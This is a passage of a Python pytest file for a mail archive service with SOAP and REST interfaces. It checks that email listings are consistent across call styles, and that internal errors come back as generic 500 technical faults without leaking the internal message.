    assert soap_output(by_address, "listEmails")["emails"]
    plain = await http.post(
        hist.endpoint("Annuaire", "soap"),
        content=envelope("listEmails", {"email": BAL}, element="listEmails"),
        headers=gateway_headers(),
    )
    assert soap_output(plain, "listEmails") == soap_output(by_address, "listEmails")


async def test_technical_errors(
    hist: Historic, http: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def broken(address: str) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(hist.service.store, "folders", broken)
    rest = await rest_call(http, hist, "Folder", "listFolders", {"email": BAL})
    assert rest.status_code == 500
    assert rest.json()["error"]["type"] == "TECHNIQUE"
    assert "fire" not in rest.text
    fault = await soap_call(http, hist, "Folder", "listFolders", {"email": BAL})
    assert fault.status_code == 500
    faultcode, tag, _code = soap_error(fault)
    assert (faultcode, tag) == ("soap:Server", f"{{{NAMESPACE}}}ErreurTechnique")
    assert b"fire" not in fault.content
